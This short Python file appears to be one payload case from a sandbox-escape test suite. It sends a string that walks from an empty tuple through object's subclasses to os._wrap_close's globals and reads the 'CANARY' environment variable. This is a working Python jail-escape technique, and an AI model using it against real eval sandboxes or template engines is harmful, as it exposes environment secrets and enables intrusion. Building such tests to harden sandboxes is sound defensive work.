"""P1: a walk from a tuple to os by double underscores."""


def attack(door):
    door.value(
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['environ']['CANARY']"
    )
